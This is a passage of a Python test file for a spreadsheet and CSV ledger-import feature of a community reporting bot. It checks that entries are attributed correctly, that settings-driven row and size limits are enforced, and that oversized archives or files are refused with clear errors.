    # she showed in /status and got /return messages nobody received.
    first = ["新华社区", *REALISTIC[0][1:8], "王芳"]
    second = ["和平街道", *REALISTIC[3][1:8], "王芳"]
    path = write_xlsx(tmp_path / "台账.xlsx", [first, second])
    with transaction(sessions) as session:
        assert import_ledger(session, path, culture, now=NOW, batch_size=1).created == 2
    with sessions() as session:
        entries = entry_store.entries_in(session, None, None)
        assert {e.member_id for e in entries} == {people["张伟"]}
        assert [e.answers["reporter"] for e in entries] == [{"text": "王芳"}] * 2
        assert count(session, Member) == 3


def test_the_import_limits_come_from_the_settings(
    engine: Any,
    sessions: sessionmaker[Session],
    people: dict[str, int],
    cli_env: dict[str, str],
    tmp_path: Path,
    clock: Clock,
) -> None:
    from click.testing import CliRunner

    from bot.admin.cli import main

    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
    before = stored(sessions)
    result = CliRunner().invoke(
        main,
        ["entries", "import", str(path)],
        env={**cli_env, "HUIBAO_LEDGER_IMPORT__MAX_ROWS": "5"},
        catch_exceptions=False,
        obj=clock,
    )
    assert result.exit_code == 1
    assert "more than 5 activities (row 8)" in result.output
    assert "HUIBAO_LEDGER_IMPORT__MAX_ROWS" in result.output
    assert stored(sessions) == before
    result = CliRunner().invoke(
        main,
        ["entries", "import", str(path)],
        env={**cli_env, "HUIBAO_LEDGER_IMPORT__MAX_UNCOMPRESSED_MB": "0"},
        catch_exceptions=False,
        obj=clock,
    )
    assert result.exit_code == 1
    assert "HUIBAO_LEDGER_IMPORT__MAX_UNCOMPRESSED_MB" in result.output


def test_a_zip_of_too_many_parts_is_refused_before_it_is_listed(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for n in range(10_001):
            archive.writestr(f"x/{n}", b"")
    with pytest.raises(LedgerError) as raised:
        read_ledger(path)
    assert str(raised.value).startswith("台账.xlsx: the file holds 10,001 parts;")


def test_a_csv_beyond_the_size_limit_or_with_an_endless_line_is_refused(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_text(",".join(COLUMNS) + "\n" + "新华社区,理论学习\n" * 200_000, "utf-8")
    with pytest.raises(LedgerError) as raised:
        read_ledger(big, small_limits(max_uncompressed_mb=1))
    assert str(raised.value) == (
        "big.csv: the file is 5.0 MB; at most 1 MB can be imported "
        "(HUIBAO_LEDGER_IMPORT__MAX_UNCOMPRESSED_MB); split the ledger into smaller files"
    )
    endless = tmp_path / "endless.csv"
    endless.write_text(",".join(COLUMNS) + "\n" + "," * 1_200_000 + "\n", "utf-8")
    with pytest.raises(LedgerError, match="a line is longer than 1,000,000 characters"):
        read_ledger(endless)
